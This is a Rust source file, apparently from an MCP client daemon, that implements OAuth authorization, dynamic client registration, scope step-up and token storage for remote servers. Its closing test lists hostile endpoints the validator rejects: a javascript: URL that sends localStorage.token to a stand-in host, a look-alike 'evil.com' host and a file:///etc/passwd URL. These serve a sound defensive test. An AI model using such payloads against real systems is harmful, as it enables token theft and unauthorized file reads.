//! OAuth to remote MCP servers (SPEC §10; MCP spec 2025-11-25, Authorization), on rmcp's
//! authorization manager, which does discovery (RFC 9728 protected-resource metadata, RFC
//! 8414 / OpenID Connect discovery with the spec's fallbacks), PKCE (S256), the `resource`
//! parameter (RFC 8707), scope selection, the token requests and refresh.
//!
//! What this module adds around it:
//! - which client identity to use: the entry's pre-registered `oauth.client_id`, else the
//!   daemon's client ID metadata document (`--oauth-client-metadata-url`) where the
//!   authorization server supports those, else dynamic registration (RFC 7591), whose
//!   secret is kept (rmcp does not keep it);
//! - authorizations a user must approve: started when a server answers 401, each waiting
//!   under its `state` for the redirect to `GET /oauth/callback`, at most
//!   [`MAX_AUTHORIZATIONS`] per server in [`AUTHORIZATION_WINDOW`] (a server that keeps
//!   refusing stops the loop), forgotten after [`PENDING_TTL`];
//! - step-up: a 403 `insufficient_scope` asks the user for the larger scope set;
//! - client credentials (RFC 6749 §4.4) with a secret or a private key JWT (RFC 7523);
//! - the token file ([`store`]), so an authorized server reconnects after a restart.

mod discovery;
mod grant;
pub mod store;

use std::collections::{HashMap, VecDeque};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rmcp::transport::auth::{
    AuthClient, AuthError, AuthorizationManager, AuthorizationRequest, AuthorizationSession,
    OAuthClientConfig,
};
use rmcp::transport::streamable_http_client::{AuthRequiredError, InsufficientScopeError};

use mag_common::config::{GrantType, OAuthSettings, ServerEntry, expand_vars};

use crate::error::ConnectError;
use crate::transport::http::RepairingClient;
use discovery::discover;
use store::{ServerCredentials, TokenFile};

/// The HTTP backend of an authorized server's streamable HTTP transport: every request
/// carries the current access token (refreshed by rmcp when it is about to expire).
pub type AuthorizedClient = AuthClient<RepairingClient>;

/// At most this many authorizations per server within [`AUTHORIZATION_WINDOW`].
pub const MAX_AUTHORIZATIONS: usize = 3;

/// The window [`MAX_AUTHORIZATIONS`] counts in.
pub const AUTHORIZATION_WINDOW: Duration = Duration::from_secs(600);

/// How long an authorization waits for its redirect.
pub const PENDING_TTL: Duration = Duration::from_secs(600);

/// At most this many authorizations wait at once (the oldest is dropped).
const MAX_PENDING: usize = 64;

/// The client name sent at dynamic registration.
const CLIENT_NAME: &str = "mcp-client";

/// What a server's 401 or 403 asked for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Challenge {
    /// 401: no token, or one the server does not take; the `WWW-Authenticate` header.
    Unauthorized(String),
    /// 403 `insufficient_scope`: the header and the scope it names.
    InsufficientScope {
        /// `WWW-Authenticate`.
        header: String,
        /// Its `scope`.
        scope: Option<String>,
    },
}

impl Challenge {
    /// The challenge in `error` or its causes: a 401 or 403 from rmcp's streamable HTTP
    /// client.
    pub fn find(error: &(dyn std::error::Error + 'static)) -> Option<Self> {
        let mut cause = Some(error);
        while let Some(error) = cause {
            if let Some(e) = error.downcast_ref::<AuthRequiredError>() {
                return Some(Self::Unauthorized(e.www_authenticate_header.clone()));
            }
            if let Some(e) = error.downcast_ref::<InsufficientScopeError>() {
                return Some(Self::InsufficientScope {
                    header: e.www_authenticate_header.clone(),
                    scope: e.required_scope.clone(),
                });
            }
            cause = error.source();
        }
        None
    }

    /// The `WWW-Authenticate` header.
    pub fn header(&self) -> &str {
        match self {
            Self::Unauthorized(header) | Self::InsufficientScope { header, .. } => header,
        }
    }
}

/// Why a redirect to `/oauth/callback` was not taken.
#[derive(Debug, thiserror::Error)]
pub enum CallbackError {
    /// No authorization waits under this `state` (unknown, already used, or expired).
    #[error(
        "no authorization waits for this state (unknown, already used, or older than {} s); \
         connect the server again for a new authorization URL",
        PENDING_TTL.as_secs()
    )]
    UnknownState,
    /// The redirect carries no `code` or no `state`.
    #[error("the redirect has no {0}")]
    Missing(&'static str),
    /// The authorization server sent an error instead of a code (e.g. the user declined).
    #[error("the authorization server answered {error}{}", .description.as_deref().map(|d| format!(": {d}")).unwrap_or_default())]
    Denied {
        /// The server this was for.
        server: String,
        /// `error`.
        error: String,
        /// `error_description`.
        description: Option<String>,
    },
    /// The code could not be exchanged for a token.
    #[error("the token request for server {server:?} failed: {reason}")]
    Exchange {
        /// The server.
        server: String,
        /// Why.
        reason: String,
    },
}

/// The query of a redirect to `GET /oauth/callback` (RFC 6749 §4.1.2, RFC 9207).
#[derive(Debug, Default, serde::Deserialize)]
pub struct CallbackQuery {
    /// The authorization code.
    pub code: Option<String>,
    /// The `state` the authorization URL carried.
    pub state: Option<String>,
    /// The issuer (RFC 9207), when the server sends it.
    pub iss: Option<String>,
    /// An error instead of a code.
    pub error: Option<String>,
    /// Its description.
    pub error_description: Option<String>,
}

enum Step {
    /// A first authorization: its session (manager, PKCE verifier, client identity).
    Start(Box<AuthorizationSession>),
    /// A step-up on an authorized server's client.
    StepUp(AuthorizedClient),
}

struct Pending {
    server: String,
    url: String,
    /// The URL the user opens.
    authorization_url: String,
    /// A client secret from dynamic registration, kept once the code is exchanged.
    client_secret: Option<String>,
    since: Instant,
    step: Step,
}

impl Pending {
    /// Whether it can still be used (younger than [`PENDING_TTL`]).
    fn live(&self) -> bool {
        self.since.elapsed() < PENDING_TTL
    }

    fn is_step_up(&self) -> bool {
        matches!(self.step, Step::StepUp(_))
    }
}

/// The daemon's OAuth state: authorized clients by server, authorizations waiting for
/// their redirect, the token file.
pub struct OAuth {
    redirect_uri: String,
    client_metadata_url: Option<String>,
    http: RepairingClient,
    tokens: Arc<TokenFile>,
    authorized: Mutex<HashMap<String, (String, AuthorizedClient)>>,
    pending: Mutex<HashMap<String, Pending>>,
    started: Mutex<HashMap<String, VecDeque<Instant>>>,
    /// One authorization starts at a time per server (concurrent 401s share it).
    turns: Mutex<HashMap<String, Arc<tokio::sync::Mutex<()>>>>,
}

fn lock<T>(mutex: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(|p| p.into_inner())
}

/// Why a step (`what`) of `server`'s authorization failed, as the connect's error says it.
fn failed(server: &str, what: &str, e: impl std::fmt::Display) -> String {
    format!("server {server:?} needs authorization, but {what} failed: {e}")
}

fn unauthorized(server: &str, what: &str, e: impl std::fmt::Display) -> ConnectError {
    ConnectError::Unauthorized(failed(server, what, e))
}

/// What a failed step of OAuth means for the connect: the authorization server out of
/// reach is a [`ConnectError::Transport`] (tried again like any connect, e.g. a daemon that
/// started before the network); a refusal or an unusable answer is
/// [`ConnectError::Unauthorized`], which waits for a person.
fn auth_failure(server: &str, what: &str, e: AuthError) -> ConnectError {
    let unreachable = matches!(
        e,
        AuthError::HttpError(_)
            | AuthError::DiscoveryRequestFailed { .. }
            | AuthError::AuthorizationServersUnavailable { .. }
            | AuthError::TokenRefreshFailed(_)
    );
    let text = failed(server, what, e);
    if unreachable {
        ConnectError::Transport(text)
    } else {
        ConnectError::Unauthorized(text)
    }
}

/// The client secret of the entry's `oauth`, `${VAR}`s expanded.
///
/// # Errors
/// [`ConnectError::Config`]: an unset variable.
fn client_secret(settings: &OAuthSettings) -> Result<Option<String>, ConnectError> {
    settings
        .client_secret
        .as_deref()
        .map(|secret| {
            expand_vars(secret, |name| std::env::var(name).ok())
                .map_err(|e| ConnectError::Config(format!("oauth.client_secret: {e}")))
        })
        .transpose()
}

impl OAuth {
    /// The OAuth state over `tokens`; redirects go to `redirect_uri` (mcp-client's own
    /// `/oauth/callback`, or one that reaches it), `client_metadata_url` is the daemon's
    /// client ID metadata document, if it has one.
    pub fn new(
        tokens: TokenFile,
        redirect_uri: String,
        client_metadata_url: Option<String>,
        http: RepairingClient,
    ) -> Self {
        Self {
            redirect_uri,
            client_metadata_url,
            http,
            tokens: Arc::new(tokens),
            authorized: Mutex::new(HashMap::new()),
            pending: Mutex::new(HashMap::new()),
            started: Mutex::new(HashMap::new()),
            turns: Mutex::new(HashMap::new()),
        }
    }

    /// The server's turn to start an authorization.
    fn turn(&self, server: &str) -> Arc<tokio::sync::Mutex<()>> {
        lock(&self.turns)
            .entry(server.to_string())
            .or_default()
            .clone()
    }

    /// The URL of the newest authorization of `server` that still waits for its redirect
    /// (only a step-up one with `step_up_only`): what `/servers` shows, while it can be used.
    pub fn waiting_url(&self, server: &str, step_up_only: bool) -> Option<String> {
        self.newest(|p| p.server == server && (!step_up_only || p.is_step_up()))
    }

    /// The URL of the newest live authorization that `keep` accepts.
    fn newest(&self, keep: impl Fn(&Pending) -> bool) -> Option<String> {
        lock(&self.pending)
            .values()
            .filter(|p| p.live() && keep(p))
            .max_by_key(|p| p.since)
            .map(|p| p.authorization_url.clone())
    }

    /// The client a server's requests go through: `None` while it needs no authorization
    /// (none asked for yet, nothing stored). For `client_credentials` it gets a token first;
    /// with a stored token (an earlier run's) it rediscovers the authorization server.
    ///
    /// # Errors
    /// [`ConnectError::Transport`]: the authorization server cannot be reached (tried again
    /// like any connect); [`ConnectError::Unauthorized`]: the client credentials were refused,
    /// or its answer is unusable; [`ConnectError::Config`]: `oauth.client_secret` names a
    /// variable that is not set.
    pub async fn client(
        &self,
        server: &str,
        entry: &ServerEntry,
        url: &str,
    ) -> Result<Option<AuthorizedClient>, ConnectError> {
        if let Some((for_url, client)) = lock(&self.authorized).get(server)
            && for_url == url
        {
            return Ok(Some(client.clone()));
        }
        let settings = entry.oauth.clone().unwrap_or_default();
        let client = if settings.grant_type == GrantType::ClientCredentials {
            self.client_credentials(server, &settings, url).await?
        } else {
            let Some(record) = self.tokens.get(server, url) else {
                return Ok(None);
            };
            let Some(stored) = record.credentials.filter(|c| c.token_response.is_some()) else {
                return Ok(None);
            };
            let mut manager = self.manager(server, url).await?;
            let metadata = discover(&manager, url, None)
                .await
                .map_err(|e| auth_failure(server, "finding its authorization server", e))?;
            manager.set_metadata(metadata);
            let restored = manager
                .initialize_from_store()
                .await
                .map_err(|e| auth_failure(server, "reading its stored token", e))?;
            if !restored {
                return Ok(None);
            }
            // rmcp restores the client id alone (no secret, the server's URL as redirect
            // URI): the client as it was registered, for refreshes and step-ups.
            let secret = match record.client_secret {
                Some(secret) => Some(secret),
                None if settings.client_id.as_deref() == Some(stored.client_id.as_str()) => {
                    client_secret(&settings)?
                }
                None => None,
            };
            let mut config = OAuthClientConfig::new(stored.client_id, &self.redirect_uri);
            if let Some(secret) = secret {
                config = config.with_client_secret(secret);
            }
            manager
                .configure_client(config)
                .map_err(|e| auth_failure(server, "configuring its client", e))?;
            AuthClient::new(self.http.clone(), manager)
        };
        lock(&self.authorized).insert(server.to_string(), (url.to_string(), client.clone()));
        Ok(Some(client))
    }

    /// What a 401 or 403 of server `server` (its `entry`) asks for: a new authorization
    /// (`begin`) or a larger scope (`step_up`), as the connect's or the
    /// request's error: [`ConnectError::AuthorizationRequired`] with the URL, or why none
    /// can start. Bounded by the entry's `timeout` (the authorization server is asked for
    /// its metadata and may be asked to register us): past it, a
    /// [`ConnectError::Transport`], tried again like any connect.
    pub async fn answer(
        &self,
        server: &str,
        entry: &ServerEntry,
        challenge: &Challenge,
    ) -> ConnectError {
        let url = match crate::transport::expanded_url(entry) {
            Ok(url) => url,
            Err(e) => return e,
        };
        let started = async {
            match challenge {
                Challenge::Unauthorized(_) => self.begin(server, entry, &url, challenge).await,
                Challenge::InsufficientScope { scope, .. } => {
                    match self.step_up(server, scope.as_deref()).await {
                        Ok(url) => ConnectError::AuthorizationRequired(url),
                        Err(e) => e,
                    }
                }
            }
        };
        tokio::time::timeout(entry.timeout, started)
            .await
            .unwrap_or_else(|_| {
                ConnectError::Transport(format!(
                    "server {server:?} needs authorization, but its authorization server did \
                     not answer within {:?}",
                    entry.timeout
                ))
            })
    }

    /// Starts the authorization a server's 401 asks for and answers
    /// [`ConnectError::AuthorizationRequired`] with the URL the user must open, or why none
    /// could start: no usable OAuth metadata, registration refused, the limit of
    /// [`MAX_AUTHORIZATIONS`] reached, client credentials refused.
    async fn begin(
        &self,
        server: &str,
        entry: &ServerEntry,
        url: &str,
        challenge: &Challenge,
    ) -> ConnectError {
        lock(&self.authorized).remove(server);
        let settings = entry.oauth.clone().unwrap_or_default();
        if settings.grant_type == GrantType::ClientCredentials {
            // Its token expired or was revoked: the next attempt asks for a new one.
            return ConnectError::Transport(format!(
                "server {server:?} refused the token of mcp-client's client credentials ({}); \
                 a new one is asked for at the next attempt",
                challenge.header()
            ));
        }
        let turn = self.turn(server);
        let _turn = turn.lock().await;
        if let Some(waiting) = self.waiting(server, url, false) {
            return ConnectError::AuthorizationRequired(waiting);
        }
        if let Err(e) = self.within_limit(server) {
            return e;
        }
        match self.start(server, &settings, url, challenge.header()).await {
            Ok(authorization_url) => {
                self.count(server);
                ConnectError::AuthorizationRequired(authorization_url)
            }
            Err(e) => e,
        }
    }

    async fn start(
        &self,
        server: &str,
        settings: &OAuthSettings,
        url: &str,
        challenge: &str,
    ) -> Result<String, ConnectError> {
        let mut manager = self.manager(server, url).await?;
        let metadata = discover(&manager, url, Some(challenge))
            .await
            .map_err(|e| auth_failure(server, "finding its authorization server", e))?;
        let metadata_documents = metadata
            .additional_fields
            .get("client_id_metadata_document_supported")
            .and_then(|v| v.as_bool())
            .unwrap_or(false);
        manager.set_metadata(metadata);
        let mut request = AuthorizationRequest::new(&self.redirect_uri)
            .with_challenge(challenge)
            .with_initial_scope_selection()
            .with_client_name(CLIENT_NAME);
        let mut registered_secret = None;
        match (&settings.client_id, &self.client_metadata_url) {
            (Some(id), _) => {
                request = request.with_preregistered_client(id);
                if let Some(secret) = client_secret(settings)? {
                    request = request.with_client_secret(secret);
                }
            }
            (None, Some(document)) if metadata_documents => {
                request = request.with_client_metadata_url(document);
            }
            (None, _) => {
                // Registered here rather than by rmcp, which would not hand back the secret.
                let scopes = manager.select_initial_scopes(&[]).await;
                let scopes: Vec<&str> = scopes.iter().map(String::as_str).collect();
                let config = manager
                    .register_client(CLIENT_NAME, &self.redirect_uri, &scopes)
                    .await
                    .map_err(|e| auth_failure(server, "registering mcp-client as a client", e))?;
                request = request.with_preregistered_client(&config.client_id);
                if let Some(secret) = config.client_secret {
                    request = request.with_client_secret(&secret);
                    registered_secret = Some(secret);
                }
            }
        }
        let session = AuthorizationSession::new(manager, request)
            .await
            .map_err(|(_, e)| auth_failure(server, "preparing the authorization", e))?;
        let authorization_url = session.auth_url.clone();
        self.wait(
            &authorization_url,
            Pending {
                server: server.to_string(),
                url: url.to_string(),
                authorization_url: authorization_url.clone(),
                client_secret: registered_secret,
                since: Instant::now(),
                step: Step::Start(Box::new(session)),
            },
        )?;
        tracing::info!(server, "waiting for the user to authorize mcp-client");
        Ok(authorization_url)
    }

    /// Asks for the larger scope a 403 `insufficient_scope` names, on the server's
    /// authorized client: the URL the user must open.
    ///
    /// # Errors
    /// The limit of [`MAX_AUTHORIZATIONS`] is reached, or no authorized client exists.
    async fn step_up(&self, server: &str, scope: Option<&str>) -> Result<String, ConnectError> {
        let Some((url, client)) = lock(&self.authorized).get(server).cloned() else {
            return Err(ConnectError::Unauthorized(format!(
                "server {server:?} refused the request for lack of scope, and mcp-client holds \
                 no authorization of it to extend"
            )));
        };
        let turn = self.turn(server);
        let _turn = turn.lock().await;
        if let Some(waiting) = self.waiting(server, &url, true) {
            return Ok(waiting);
        }
        self.within_limit(server)?;
        let manager = client.auth_manager.lock().await;
        manager.reset_scope_upgrade_attempts().await;
        let authorization_url = manager
            .request_scope_upgrade(scope.unwrap_or_default())
            .await
            .map_err(|e| auth_failure(server, "asking for a larger scope", e))?;
        drop(manager);
        self.count(server);
        self.wait(
            &authorization_url,
            Pending {
                server: server.to_string(),
                url,
                authorization_url: authorization_url.clone(),
                client_secret: None,
                since: Instant::now(),
                step: Step::StepUp(client),
            },
        )?;
        tracing::info!(server, "waiting for the user to grant a larger scope");
        Ok(authorization_url)
    }

    /// Takes a redirect to `/oauth/callback`: exchanges the code of the authorization its
    /// `state` names (once: a replayed `state` is unknown) and keeps the tokens. Answers the
    /// server's name, which the caller connects.
    ///
    /// # Errors
    /// [`CallbackError`].
    pub async fn callback(&self, query: CallbackQuery) -> Result<String, CallbackError> {
        let state = query.state.ok_or(CallbackError::Missing("state"))?;
        if query.code.is_none() && query.error.is_none() {
            // Not a redirect of an authorization server: the authorization still waits.
            return Err(CallbackError::Missing("code"));
        }
        let pending = lock(&self.pending)
            .remove(&state)
            .filter(Pending::live)
            .ok_or(CallbackError::UnknownState)?;
        let server = pending.server.clone();
        if let Some(error) = query.error {
            return Err(CallbackError::Denied {
                server,
                error,
                description: query.error_description,
            });
        }
        let code = query.code.ok_or(CallbackError::Missing("code"))?;
        let exchange_failed = |e: AuthError| CallbackError::Exchange {
            server: server.clone(),
            reason: e.to_string(),
        };
        let client = match pending.step {
            Step::Start(session) => {
                if let Some(secret) = &pending.client_secret {
                    let secret = secret.clone();
                    let _ = self
                        .tokens
                        .update(&server, &pending.url, |record| {
                            record.client_secret = Some(secret);
                        })
                        .await;
                }
                session
                    .handle_callback_with_issuer(&code, &state, query.iss.as_deref())
                    .await
                    .map_err(exchange_failed)?;
                AuthClient::new(self.http.clone(), session.auth_manager)
            }
            Step::StepUp(client) => {
                client
                    .auth_manager
                    .lock()
                    .await
                    .exchange_code_for_token_with_issuer(&code, &state, query.iss.as_deref())
                    .await
                    .map_err(exchange_failed)?;
                client
            }
        };
        lock(&self.authorized).insert(server.clone(), (pending.url, client));
        tracing::info!(server, "authorized");
        Ok(server)
    }

    /// Drops the server's authorized client and waiting authorizations (its entry changed,
    /// or its token is refused): its next connect gets a new client (a new client
    /// credentials grant, or the token file's record for its URL).
    pub fn forget_client(&self, server: &str) {
        lock(&self.authorized).remove(server);
        lock(&self.pending).retain(|_, p| p.server != server);
    }

    /// Forgets a server that was removed: its authorized client, its waiting
    /// authorizations and its record in the token file.
    pub async fn forget(&self, server: &str) {
        self.forget_client(server);
        lock(&self.started).remove(server);
        if let Err(e) = self.tokens.remove(server).await {
            tracing::warn!(server, "cannot remove the server's OAuth tokens: {e}");
        }
    }

    /// A manager for `url` whose credentials live in the token file.
    async fn manager(&self, server: &str, url: &str) -> Result<AuthorizationManager, ConnectError> {
        let mut manager = AuthorizationManager::new(url)
            .await
            .map_err(|e| unauthorized(server, "preparing OAuth", e))?;
        manager.set_credential_store(ServerCredentials {
            file: self.tokens.clone(),
            server: server.to_string(),
            url: url.to_string(),
        });
        Ok(manager)
    }

    /// The URL of an authorization of `server` that still waits for its user (a step-up
    /// one, or a first one): asked again meanwhile, the user gets the same URL.
    fn waiting(&self, server: &str, url: &str, step_up: bool) -> Option<String> {
        self.newest(|p| p.server == server && p.url == url && p.is_step_up() == step_up)
    }

    /// Whether another authorization of `server` may start ([`MAX_AUTHORIZATIONS`]).
    fn within_limit(&self, server: &str) -> Result<(), ConnectError> {
        let mut started = lock(&self.started);
        let times = started.entry(server.to_string()).or_default();
        times.retain(|t| t.elapsed() < AUTHORIZATION_WINDOW);
        if times.len() >= MAX_AUTHORIZATIONS {
            return Err(ConnectError::Unauthorized(format!(
                "server {server:?} still refuses access after {MAX_AUTHORIZATIONS} \
                 authorizations in {} s; mcp-client gave up asking (try again later)",
                AUTHORIZATION_WINDOW.as_secs()
            )));
        }
        Ok(())
    }

    /// Counts an authorization of `server` that started.
    fn count(&self, server: &str) {
        lock(&self.started)
            .entry(server.to_string())
            .or_default()
            .push_back(Instant::now());
    }

    /// Keeps `pending` under the `state` of `authorization_url`.
    fn wait(&self, authorization_url: &str, pending: Pending) -> Result<(), ConnectError> {
        let state = url::Url::parse(authorization_url)
            .ok()
            .and_then(|u| {
                u.query_pairs()
                    .find(|(k, _)| k == "state")
                    .map(|(_, v)| v.into_owned())
            })
            .ok_or_else(|| {
                ConnectError::Unauthorized("the authorization URL carries no state".into())
            })?;
        let mut waiting = lock(&self.pending);
        waiting.retain(|_, p| p.live());
        while waiting.len() >= MAX_PENDING {
            let oldest = waiting
                .iter()
                .min_by_key(|(_, p)| p.since)
                .map(|(k, _)| k.clone());
            match oldest {
                Some(key) => waiting.remove(&key),
                None => break,
            };
        }
        waiting.insert(state, pending);
        Ok(())
    }
}

impl Challenge {
    /// The challenge of a failed `initialize`, if the transport met a 401 or 403.
    pub fn in_initialize(error: &rmcp::service::ClientInitializeError) -> Option<Self> {
        use rmcp::service::ClientInitializeError as Failed;
        match error {
            Failed::TransportError { error, .. } => Self::find(&*error.error),
            Failed::LegacyFallbackFailed { fallback, .. } => Self::in_initialize(fallback),
            _ => None,
        }
    }

    /// The challenge of a failed request, if the transport met a 401 or 403.
    pub fn in_request(error: &rmcp::ServiceError) -> Option<Self> {
        match error {
            rmcp::ServiceError::TransportSend(e) => Self::find(&*e.error),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::discovery::acceptable_endpoint;
    use super::*;

    #[test]
    fn only_https_or_loopback_http_endpoints_are_taken() {
        for ok in [
            "https://auth.example.com/authorize",
            "http://localhost:8080/authorize",
            "http://127.0.0.1/token",
            "http://[::1]:9/authorize",
            "http://app.localhost/authorize",
        ] {
            assert!(acceptable_endpoint(ok), "{ok}");
        }
        for bad in [
            "javascript:fetch('//x/'+localStorage.token)//",
            "http://auth.example.com/authorize",
            "http://localhost.evil.com/authorize",
            "file:///etc/passwd",
            "data:text/html,hi",
            "not a url",
        ] {
            assert!(!acceptable_endpoint(bad), "{bad}");
        }
    }

    #[test]
    fn a_corrupt_token_file_is_moved_aside() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(store::TOKEN_FILE), b"{not json").unwrap();
        let file = store::TokenFile::open(dir.path()).unwrap();
        assert!(file.get("any", "https://h/mcp").is_none());
        let names: Vec<String> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names.len(), 1, "{names:?}");
        assert!(
            names[0].starts_with("oauth-tokens.json.corrupt-"),
            "{names:?}"
        );
    }
}
